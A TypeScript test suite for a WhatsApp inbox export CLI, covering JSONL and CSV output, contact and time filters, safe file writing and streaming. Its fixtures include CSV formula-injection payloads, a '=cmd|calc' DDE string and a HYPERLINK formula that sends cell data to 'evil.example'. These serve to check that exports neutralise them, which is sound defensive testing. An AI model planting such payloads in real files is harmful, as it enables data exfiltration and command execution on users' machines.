import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { systemClock } from '../../src/clock.ts';
import { admitAll } from '../../src/domain/admit.ts';
import { writeContent } from '../../src/domain/outgoing-body.ts';
import { writeBody } from '../../src/domain/stored-body.ts';
import { receive } from '../../src/intake/to-entries.ts';
import { openStore } from '../../src/store/open.ts';
import { entriesQuery } from '../../src/store/sql/export-queries.ts';
import type { Store } from '../../src/store/store.ts';
import { runCli, startCli } from './program.ts';

const account = '106540352242922';
const day = 86_400_000;
const first = Date.UTC(2026, 10, 1);

let dir: string;
let store: Store;

/** Kapso's addresses of files let whoever has them in. */
const canary = 'canary-of-an-address-51cc';
const media = {
  ...{ kind: 'image' as const, id: 'm1', mimeType: 'image/png', filename: 'a.png', size: 5 },
  url: `https://files.example/?token=${canary}`,
};

const from = (phone: string, at: number, text: string) => {
  const message = {
    id: `wamid.${createHash('sha256').update(`${phone} ${at}`).digest('hex').slice(0, 24)}`,
    ...{ account, conversationId: null, timestamp: at, type: 'text', text, media },
    sender: { phone, userId: null, name: '=cmd|calc', username: null },
  };
  const sessionFor = ({ origin }: { origin: string }) => ({ key: `agent:main:${origin}`, of: 'conversation' as const });
  const { from: sighting, file } = receive(message, { sessionFor, admit: admitAll });
  return { id: message.id, account, occurredAt: at, body: writeBody(message), from: sighting, file };
};

beforeEach(async () => {
  dir = await mkdtemp(join(tmpdir(), 'kapso-cli-'));
  store = await openStore({ dir, clock: systemClock });
});
afterEach(async () => {
  await store.close();
  await rm(dir, { recursive: true });
});

/** One message that was answered in two parts, one that waits, and one of somebody else; the third is the oldest. */
async function threeMessages(): Promise<void> {
  const asked = from(
    '5511987654321',
    first + day,
    '=HYPERLINK("http://evil.example/?"&A1,"x")\r\n\u200e+1;-2, "quoted"',
  );
  await store.accept([asked, from('551187654321', first + 2 * day, 'Again'), from('15550107001', first, 'Hello')]);
  await store.begin(asked.id, { runKey: asked.id, runNumber: 1 });
  const part = (number: number) => ({
    ...{ id: `${asked.id}#1-${number}`, message: asked.id, answer: `${asked.id}#1`, account, lane: 'l' },
    ...{ recipient: '+5511987654321', via: 'relay' as const, part: number, parts: 2, sendBefore: null },
    body: writeContent({ kind: 'text', text: `Part ${number}` }),
  });
  await store.settle(asked.id, 'answering', { outgoing: [part(1), part(2)] });
  await store.outbox.sent(`${asked.id}#1-1`, 'wamid.OUT1');
  const report = { sentId: 'wamid.OUT1', mark: null, status: 'read' as const, code: null, reason: null };
  await store.outbox.report({ ...report, at: first + day + 5000 });
}

const run = (...args: string[]) => runCli(['inbox', 'export', '--state-dir', dir, ...args]);
const linesOf = (stdout: string) =>
  stdout
    .trimEnd()
    .split('\n')
    .filter(Boolean)
    .map(line => JSON.parse(line));

/** Reads CSV by the grammar of RFC 4180. */
function readCsv(text: string): Record<string, string>[] {
  const records = [...text.replace(/^\ufeff/, '').matchAll(/((?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r\n))/g)];
  const rows: string[][] = [[]];
  for (const [, one = ''] of records) {
    const ends = one.endsWith('\r\n');
    const cell = one.slice(0, ends ? -2 : -1);
    rows.at(-1)?.push(cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);
    if (ends) rows.push([]);
  }
  const [header = [], ...rest] = rows.slice(0, -1);
  return rest.map(row => Object.fromEntries(header.map((name, at) => [name, row[at] ?? '(missing)'])));
}

describe('kapso-whatsapp-cli inbox export', () => {
  test('writes each message, oldest first, with what became of it and of its answers', async () => {
    await threeMessages();
    await writeFile(join(dir, 'device-token.json'), canary);
    const { code, stdout, stderr } = await run();
    expect([code, stderr]).toEqual([0, '']);
    expect(stdout + (await run('--format', 'csv')).stdout).not.toContain(canary);
    const records = linesOf(stdout);
    expect(records.map(({ text, state, outcome }) => [text.slice(0, 5), state, outcome])).toEqual([
      ['Hello', 'pending', null],
      ['=HYPE', 'settled', 'answering'],
      ['Again', 'pending', null],
    ]);
    expect(records[1]).toMatchObject({
      media: { kind: 'image', mimeType: 'image/png', filename: 'a.png', size: 5 },
      ...{ account, contact: '+551187654321', from: '+5511987654321', occurredAt: '2026-11-02T00:00:00.000Z' },
      answers: [
        { text: 'Part 1', state: 'sent', sentId: 'wamid.OUT1', status: 'read', statusAt: '2026-11-02T00:00:05.000Z' },
        { text: 'Part 2', state: 'pending', sentId: null, status: null },
      ],
    });
  });

  test('by time and by contact, in every spelling of the number', async () => {
    await threeMessages();
    const texts = async (...args: string[]) => linesOf((await run(...args)).stdout).map(({ text }) => text.slice(0, 5));
    expect(await texts('--contact', '+55 11 98765-4321')).toEqual(['=HYPE', 'Again']);
    expect(await texts('--contact', '+551187654321', '--until', '2026-11-03')).toEqual(['=HYPE']);
    expect(await texts('--since', '2026-11-02T02:00:00+02:00', '--until', '2026-11-03T00:00:00Z')).toEqual(['=HYPE']);
    expect(await texts('--since', '1m')).toEqual([]);
    expect(await texts('--account', '1')).toEqual([]);
    for (const wrong of [
      ['--since', '2026-02-30'],
      ['--since', 'yesterday'],
      ['--since', '2026-11-03', '--until', '2026-11-02'],
      ['--contact', '+15550000000'],
      ['--json'],
    ])
      expect((await run(...wrong)).code).toBe(64);
  });

  test('as CSV by RFC 4180, in which a spreadsheet finds no formula', async () => {
    await threeMessages();
    const file = join(dir, 'out.csv');
    const { code, stdout } = await run('-o', file);
    expect([code, stdout]).toEqual([0, `${file}: 3 messages\n`]);
    expect((await stat(file)).mode & 0o777).toBe(0o600);
    const text = await readFile(file, 'utf8');
    const rows = readCsv(text);
    expect(rows.map(({ direction, time, delivery }) => [direction, time?.slice(0, 10), delivery])).toEqual([
      ['in', '2026-11-01', ''],
      ['in', '2026-11-02', ''],
      ['out', expect.any(String), 'read'],
      ['out', expect.any(String), ''],
      ['in', '2026-11-03', ''],
    ]);
    expect(rows[1]).toMatchObject({
      text: `'=HYPERLINK("http://evil.example/?"&A1,"x")\n\\u200e+1;'-2, "quoted"`,
      name: "'=cmd|calc",
      address: "'+5511987654321",
    });
    expect(rows[2]?.answers).toBe(rows[1]?.id);
    const cells = [...rows.flatMap(row => Object.values(row))];
    expect(cells.filter(cell => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([]);
  });

  test('replaces no file unless it is told to, and leaves nothing else', async () => {
    await threeMessages();
    const file = join(dir, 'out.jsonl');
    await writeFile(file, 'mine');
    const refused = await run('-o', file);
    expect([refused.code, await readFile(file, 'utf8')]).toEqual([64, 'mine']);
    const { code, stdout } = await run('-o', file, '--force', '--json');
    expect([code, JSON.parse(stdout)]).toEqual([0, { file, format: 'jsonl', messages: 3 }]);
    expect(linesOf(await readFile(file, 'utf8'))).toHaveLength(3);
    expect((await readdir(dir)).filter(name => name.includes('.part'))).toEqual([]);
    const full = await run('-o', '/dev/full');
    expect(full.code).toBe(64);
    const missing = await run('-o', join(dir, 'none', 'out.csv'));
    expect([missing.code, existsSync(join(dir, 'none'))]).toEqual([75, false]);
  });

  test('reads one moment while another process writes, in memory that does not grow, until nobody reads any more', async () => {
    // 60 MB, more than the program may take below.
    const text = 'x'.repeat(20_000);
    await store.accept(Array.from({ length: 3000 }, (_, at) => from('15550107001', first + at, text)));
    const child = startCli(['inbox', 'export', '--state-dir', dir], { NODE_OPTIONS: '--max-old-space-size=24' });
    child.stderr.resume();
    child.stdout.setEncoding('utf8');
    let lines = 0;
    child.stdout.on('data', (part: string) => {
      lines += part.split('\n').length - 1;
      expect(part).not.toContain('Later');
    });
    await once(child.stdout, 'data');
    child.stdout.pause();
    // It waits for the pipe. What comes now is of a later moment.
    await store.accept([from('15550107001', first + 50_000, 'Later')]);
    child.stdout.resume();
    const [code] = await once(child, 'close');
    expect([code, lines]).toEqual([0, 3000]);

    const head = startCli(['inbox', 'export', '--state-dir', dir]);
    await once(head.stdout, 'data');
    head.stdout.destroy();
    expect((await once(head, 'close'))[0]).toBe(0);
  });

  test('sorts nothing: the entries of each state are read in the order of the index', () => {
    const db = new DatabaseSync(join(dir, 'inbox.sqlite'), { readOnly: true });
    const query = entriesQuery({ since: 1, until: 2, account, contact: '+1' });
    const plan = db.prepare(`EXPLAIN QUERY PLAN ${query}`).all({ since: 1, until: 2, account, contact: '+1' });
    db.close();
    const steps = plan.map(({ detail }) => String(detail));
    expect(steps).toContain('MERGE (UNION ALL)');
    expect(steps.filter(step => /TEMP B-TREE/.test(step))).toEqual([]);
  });
});
